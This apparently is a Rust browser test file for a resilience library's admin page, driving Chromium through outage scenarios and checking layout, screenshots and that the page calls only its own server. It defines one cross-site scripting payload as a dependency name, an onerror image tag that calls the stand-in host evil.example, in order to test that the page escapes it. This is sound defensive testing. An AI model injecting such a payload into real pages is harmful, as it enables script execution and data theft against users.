//! The page in Chromium, during outages.
//!
//! The pictures are in the folder for temporary files of the test. With `BLESS=1`, one of them
//! replaces `docs/admin.png`.

mod driver;

use std::{env, fs, net::SocketAddr, path::Path, time::Duration};

use axum::Router;
use buttress::{
    BoxError, Stack, bulkhead::BulkheadLayer, retry::ReplayClones, telemetry::Registry,
};
use buttress_admin::Admin;
use driver::Browser;
use serde_json::Value;
use tokio::{
    net::TcpListener,
    runtime::Runtime,
    time::{interval, sleep},
};
use tower::{ServiceExt, util::BoxCloneSyncService};

type Client = BoxCloneSyncService<u64, u64, BoxError>;

/// A name that would run a script if it became a part of the page.
const HOSTILE: &str = "<img src=x onerror=\"document.title='taken'; fetch('//evil.example')\">";

/// Sends `rate` calls in a second, and waits for none.
fn load(client: Client, rate: u64) {
    tokio::spawn(async move {
        let mut ticks = interval(Duration::from_millis(1_000 / rate));
        for number in 0.. {
            ticks.tick().await;
            let client = client.clone();
            tokio::spawn(async move { client.oneshot(number).await });
        }
    });
}

/// A client whose service takes this long.
fn takes(millis: u64) -> Client {
    BoxCloneSyncService::new(tower::service_fn(move |number: u64| async move {
        sleep(Duration::from_millis(millis)).await;
        Ok::<_, BoxError>(number)
    }))
}

/// A process with four dependencies, one of which is overloaded.
struct Shop {
    runtime: Runtime,
    address: SocketAddr,
}

impl Shop {
    fn open(admin: impl FnOnce(Admin) -> Admin) -> Self {
        let runtime = Runtime::new().unwrap();
        let address = runtime.block_on(async {
            let registry = Registry::new();
            let standard = |name: &str| {
                Stack::standard(ReplayClones).name(name.to_owned()).register(&registry)
            };
            load(BoxCloneSyncService::new(standard("inventory").boxed(takes(4))), 40);
            load(BoxCloneSyncService::new(standard(HOSTILE).boxed(takes(2))), 5);
            let few = BulkheadLayer::builder().max_concurrent(4).build().unwrap();
            let payments = standard("payments").bulkhead(few);
            load(BoxCloneSyncService::new(payments.boxed(takes(200))), 50);

            let admin = admin(Admin::new(&registry));
            let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
            let address = listener.local_addr().unwrap();
            let router = Router::new().nest_service("/buttress", admin);
            tokio::spawn(async { axum::serve(listener, router).await });
            address
        });
        Self { runtime, address }
    }

    fn url(&self) -> String {
        format!("http://{}/buttress", self.address)
    }
}

/// Returns a script that finds the card of a dependency.
fn card(name: &str) -> String {
    let name = Value::from(name);
    let is_it = format!("it => it.querySelector('h2').textContent === {name}");
    format!("[...document.querySelectorAll('section')].find({is_it})")
}

fn text(browser: &Browser, of: &str, selector: &str) -> String {
    let script = format!("return {}.querySelector('{selector}').textContent", card(of));
    browser.run(&script).as_str().unwrap().to_owned()
}

/// Keeps a picture of the page.
fn keep(browser: &Browser, width: u32, name: &str) -> Vec<u8> {
    let picture = browser.picture(width);
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR"));
    fs::write(folder.join(format!("{name}-{width}.png")), &picture).unwrap();
    picture
}

/// Checks that nothing on the page went wrong, and that it asked only its own server.
fn check(browser: &Browser, shop: &Shop) {
    assert_eq!(browser.console(), [""; 0]);
    let own = shop.url();
    let asked = browser.requests(&format!("http://{}", shop.address));
    assert!(asked.len() > 1, "{asked:?}");
    // The icon is in the page itself.
    let is_foreign = |url: &String| !url.starts_with(&own) && !url.starts_with("data:");
    let foreign: Vec<_> = asked.into_iter().filter(is_foreign).collect();
    assert_eq!(foreign, [""; 0]);
}

/// Waits until the sentence of a dependency begins with a text.
fn await_sentence(browser: &Browser, name: &str, begin: &str) {
    let sentence = format!("{}?.querySelector('.sentence').textContent", card(name));
    browser.wait(begin, &format!("return ({sentence} ?? '').startsWith({})", Value::from(begin)));
}

#[test]
fn the_page_says_whose_fault_an_outage_is_at_each_width() {
    let shop = Shop::open(|admin| admin);
    let browser = Browser::start();
    for width in [1_280, 400] {
        browser.resize(width, 900);
        browser.open(&shop.url());
        await_sentence(&browser, "payments", "Our bulkhead is full");
        assert_eq!(text(&browser, "payments", ".badge"), "◆ Our side");
        // The first card is the one to look at.
        assert_eq!(browser.run("return document.querySelector('h2').textContent"), "payments");
        let wide = browser.run("return document.documentElement.scrollWidth");
        assert_eq!(wide, width, "the page must not be wider than the screen");
        // Nobody may change anything.
        assert_eq!(browser.run("return document.querySelectorAll('button').length"), 0);
        keep(&browser, width, "outage");
    }
    check(&browser, &shop);
    drop(shop.runtime);
}

#[test]
fn a_hostile_name_is_text() {
    let shop = Shop::open(|admin| admin);
    let browser = Browser::start();
    browser.open(&shop.url());
    browser.wait("the card", &format!("return !!{}", card(HOSTILE)));
    assert_eq!(browser.run("return document.querySelectorAll('img').length"), 0);
    assert!(browser.run("return document.title").as_str().unwrap().contains("buttress"));
    check(&browser, &shop);
    drop(shop.runtime);
}

#[test]
fn a_server_that_ends_makes_the_numbers_old() {
    let shop = Shop::open(|admin| admin);
    let browser = Browser::start();
    browser.open(&shop.url());
    browser.wait("the card", &format!("return !!{}", card("payments")));
    drop(shop.runtime);
    let live = "document.getElementById('live').textContent";
    browser.wait("the warning", &format!("return /does not respond/.test({live})"));
}
